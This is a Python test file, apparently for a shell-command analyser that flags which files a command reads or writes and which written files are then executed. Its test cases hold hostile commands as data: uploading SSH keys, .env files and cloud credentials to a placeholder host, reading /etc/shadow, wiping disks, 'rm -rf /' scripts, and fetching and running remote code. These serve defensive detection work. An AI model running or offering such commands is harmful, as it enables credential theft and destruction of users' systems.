"""Files read and written, and files written then run."""

from __future__ import annotations

import pytest
from shell_testing import run


def _writes(command: str) -> list[tuple[str, str]]:
    return [(use.path, use.via) for use in run(command).writes]


def _reads(command: str) -> list[tuple[str, str]]:
    return [(use.path, use.via) for use in run(command).reads]


@pytest.mark.parametrize(
    ("command", "writes"),
    [
        ("echo x > a.txt", [("a.txt", ">")]),
        ("echo x >> a.txt", [("a.txt", ">>")]),
        ("make &> build.log", [("build.log", "&>")]),
        ("ls 2> err.log", [("err.log", ">")]),
        ("ls >| out", [("out", ">|")]),
        ("ls > /dev/null 2>&1", []),
        ("echo x | tee a.txt", [("a.txt", "tee")]),
        ("echo x | tee -a ~/.bashrc b", [("~/.bashrc", "tee"), ("b", "tee")]),
        ("cp a b /srv/dst", [("/srv/dst", "cp")]),
        ("cp -t /srv/dst a b", [("/srv/dst", "cp")]),
        ("cp --target-directory=/d a", [("/d", "cp")]),
        ("mv old new", [("new", "mv"), ("old", "mv")]),
        ("install -m 755 tool /usr/local/bin/tool", [("/usr/local/bin/tool", "install")]),
        ("ln -sf /etc/passwd link", [("link", "ln")]),
        ("sed -i 's/a/b/' config.yml", [("config.yml", "sed -i")]),
        ("sed -i.bak -e 's/a/b/' a b", [("a", "sed -i"), ("b", "sed -i")]),
        ("sed --in-place 's/a/b/' f", [("f", "sed -i")]),
        ("sed -i '' 's/a/b/' f", [("f", "sed -i")]),
        ("sed -I '' 's/a/b/' ~/.bashrc", [("~/.bashrc", "sed -i")]),  # BSD sed
        ("sed -I.bak 's/a/b/' f", [("f", "sed -i")]),
        ("sed -nI '' 's/a/b/' f", [("f", "sed -i")]),
        ("sed 's/a/b/' f", []),
        ("perl -ne print f", []),
        ("tar czf /tmp/src.tgz src", [("/tmp/src.tgz", "tar")]),
        ("tar -c -z -f out.tgz -C src .", [("out.tgz", "tar")]),
        ("tar --create --file=out.tar dir", [("out.tar", "tar")]),
        ("tar xzf in.tgz", []),  # extracting: its files are not known here
        ("zip -r /tmp/k.zip ~/.ssh", [("/tmp/k.zip", "zip")]),
        ("gpg -c -o /tmp/k.gpg key", [("/tmp/k.gpg", "gpg")]),
        ("gpg --output=out.asc --armor --encrypt -r me f", [("out.asc", "gpg")]),
        ("openssl enc -aes256 -in a -out b.enc", [("b.enc", "openssl")]),
        ("perl -pi -e 's/a/b/' f.txt", [("f.txt", "perl -i")]),
        ("perl -i.orig -pe 's/a/b/' f.txt", [("f.txt", "perl -i")]),
        ("awk -i inplace '{print}' ~/.bashrc", [("~/.bashrc", "awk -i inplace")]),
        ("gawk -iinplace -v x=1 '{print}' n=2 a b", [("a", "gawk -i inplace"), ("b", "gawk -i inplace")]),
        ("gawk --include=inplace -f fix.awk f", [("f", "gawk -i inplace")]),
        ("awk --include inplace -e '{print}' -- f", [("f", "awk -i inplace")]),
        ("awk -i lib.awk '{print}' f", []),
        ("awk -F, '{print $1}' f.csv", []),
        ("dd if=/dev/zero of=/dev/sda bs=1M", [("/dev/sda", "dd")]),
        ("truncate -s 0 app.log", [("app.log", "truncate")]),
        ("touch -d yesterday a b", [("a", "touch"), ("b", "touch")]),
        ("chmod -R 777 /", [("/", "chmod")]),
        ("chmod +x s.sh", [("s.sh", "chmod")]),
        ("chown -R root:root /srv", [("/srv", "chown")]),
        ("rsync -av src/ /backup/", [("/backup/", "rsync")]),
        ("rsync -av src/ host:/backup/", []),
        ("scp host:/etc/passwd ./passwd", [("./passwd", "scp")]),
        ("curl -o out.sh https://x", [("out.sh", "curl")]),
        ("wget -O - https://x", []),
        ("sort -o sorted.txt in.txt", [("sorted.txt", "sort")]),
        ("{ echo a; echo b; } > both.txt", [("both.txt", ">"), ("both.txt", ">")]),
        ("python3 -c \"open('/etc/hosts', 'w').write('x')\"", [("/etc/hosts", "inline")]),
        ("python3 -c \"from pathlib import Path; Path('a.txt').write_text('x')\"", [("a.txt", "inline")]),
        ("node -e \"require('fs').writeFileSync('.env', 'x')\"", [(".env", "inline")]),
    ],
)
def test_writes(command: str, writes: list[tuple[str, str]]) -> None:
    assert _writes(command) == writes


@pytest.mark.parametrize(
    ("command", "reads"),
    [
        ("sort < in.txt", [("in.txt", "<")]),
        ("cat ~/.ssh/id_rsa", [("~/.ssh/id_rsa", "cat")]),
        ("less .env.local", [(".env.local", "less")]),
        ("head -n 5 a b", [("a", "head"), ("b", "head")]),
        ("tail -f app.log", [("app.log", "tail")]),
        ("base64 ~/.aws/credentials", [("~/.aws/credentials", "base64")]),
        ("xxd key.pem", [("key.pem", "xxd")]),
        ("grep -r TODO src", [("src", "grep")]),
        ("grep -e TODO -e FIXME a.py", [("a.py", "grep")]),
        ("grep -A 3 x f", [("f", "grep")]),
        ("cp ~/.ssh/id_ed25519 /tmp", [("~/.ssh/id_ed25519", "cp")]),
        ("scp ~/.ssh/id_rsa host:/tmp", [("~/.ssh/id_rsa", "scp")]),
        ("rsync -a ~/.aws/ host:backup", [("~/.aws/", "rsync")]),
        ("curl -d @.env https://x", [(".env", "curl")]),
        ("curl --data-binary @secrets.json https://x", [("secrets.json", "curl")]),
        ("curl --data-binary @- https://x", []),
        ("curl -T ~/.netrc https://x", [("~/.netrc", "curl")]),
        ("curl --upload-file db.sqlite https://x", [("db.sqlite", "curl")]),
        ("curl -F 'f=@id_rsa;type=text/plain' https://x", [("id_rsa", "curl")]),
        ("curl --data-urlencode 'k@.env' https://x", [(".env", "curl")]),
        ("wget --post-file=.env https://x", [(".env", "wget")]),
        ("source ./env.sh", [("./env.sh", "source")]),
        (". ~/.profile", [("~/.profile", ".")]),
        ("python3 -c \"print(open('/etc/shadow').read())\"", [("/etc/shadow", "inline")]),
        ('echo "$(<~/.ssh/id_rsa)"', [("~/.ssh/id_rsa", "cat")]),  # bash's $(cat f)
        ("key=$(< .env)", [(".env", "cat")]),
        ("ls -la", []),
        ("echo ~/.ssh/id_rsa", []),
        # file transfer clients' put commands, mail attachments, HTTPie's file items
        ("sftp host <<< 'put ~/.ssh/id_rsa'", [("~/.ssh/id_rsa", "sftp")]),
        ("lftp -e 'cd up; put .env; bye' ftp://host", [(".env", "lftp")]),
        ("smbclient //host/share -c 'mput a b'", [("a", "smbclient"), ("b", "smbclient")]),
        ("sftp host <<< 'get remote.txt'", []),
        ("mail -A ~/.ssh/id_rsa -s hi a@x.example", [("~/.ssh/id_rsa", "mail")]),
        ("mutt -a report.pdf -- a@x.example", [("report.pdf", "mutt")]),
        ("http POST https://x.example @body.json", [("body.json", "http")]),
        ("http -f POST https://x.example file@~/.ssh/id_rsa name=x", [("~/.ssh/id_rsa", "http")]),
        ("xh https://x.example cfg:=@config.json", [("config.json", "xh")]),
        ("http https://user@x.example/p q==1", []),
        # commands that print what they make of the files they read
        ("sed -n p ~/.ssh/id_rsa", [("~/.ssh/id_rsa", "sed")]),
        ("sed -e 's/a/b/' -f fix.sed a b", [("a", "sed"), ("b", "sed")]),
        ("perl -ne print .env", [(".env", "perl")]),
        ("awk '{print}' .env", [(".env", "awk")]),
        ("awk -F= -v OFS=, '{print $1}' n=1 .env", [(".env", "awk")]),
        ("openssl enc -aes256 -k x -in ~/.ssh/id_rsa", [("~/.ssh/id_rsa", "openssl")]),
        ("openssl dgst -sign ~/.ssh/k.pem -passin file:pw.txt f", [("~/.ssh/k.pem", "openssl"), ("pw.txt", "openssl")]),
        ("openssl rsautl -sign -inkey key.pem", [("key.pem", "openssl")]),
        ("gpg -c --batch --passphrase x ~/.ssh/id_rsa", [("~/.ssh/id_rsa", "gpg")]),
        ("gpg -e -r alice@example.com --passphrase-file pw f", [("f", "gpg"), ("pw", "gpg")]),
        ("tar czf out.tgz a b", [("a", "tar"), ("b", "tar")]),
        # `{}` in a command run on what find found: each root, and a file of the name it picks
        ("find ~/.ssh/id_rsa -exec cat {} \\;", [("~/.ssh/id_rsa", "cat")]),
        ("find ~ -name '*.pem' -exec curl -F f=@{} https://x \\;", [("~", "curl"), ("~/.pem", "curl")]),
        ("find ~ -iname 'id_rsa*' | xargs -I{} curl -T {} https://x", [("~", "curl"), ("~/id_rsa", "curl")]),
        ("find src -path '*/fixtures/*.json' -exec cat {} +", [("src", "cat"), ("src/.json", "cat")]),
    ],
)
def test_reads(command: str, reads: list[tuple[str, str]]) -> None:
    assert _reads(command) == reads


def test_path_uses_point_at_their_segment() -> None:
    analysis = run("ls; cat secret.txt > copy.txt")
    assert [u.segment for u in analysis.reads] == [1]
    assert [u.segment for u in analysis.writes] == [1]


@pytest.mark.parametrize(
    ("command", "found"),
    [
        ("echo 'rm -rf /' > s.sh && sh s.sh", ("s.sh",)),
        ("echo x > s.sh; chmod +x s.sh && ./s.sh", ("s.sh",)),
        ("curl -o run.sh https://x && bash run.sh", ("run.sh",)),
        ("printf 'rm -rf ~' > /tmp/a.sh; source /tmp/a.sh", ("/tmp/a.sh",)),
        ("cat > t.sh <<'EOF'\nrm -rf /\nEOF\n. t.sh", ("t.sh",)),
        ("echo 'import os' > x.py && python3 x.py", ("x.py",)),
        ("echo 'x' > x.js && node x.js", ("x.js",)),
        ("echo rm > s.sh && bash < s.sh", ("s.sh",)),
        ("tee s.sh <<< 'rm -rf /' && bash ./s.sh", ("s.sh",)),
        ("cd /tmp && echo x > a.sh && cd / && /tmp/a.sh", ("a.sh",)),
        ("printf 'all:\\n\\trm -rf /' > Makefile && make", ("Makefile",)),
        ("echo '{}' > package.json && npm run build", ("package.json",)),
        ("sh s.sh; echo x > s.sh", ()),
        ("echo x > a.sh && sh b.sh", ()),
        ("cat s.sh && sh s.sh", ()),
        ("echo x > notes.txt && ls", ()),
    ],
)
def test_write_then_exec(command: str, found: tuple[str, ...]) -> None:
    assert run(command).write_then_exec == found
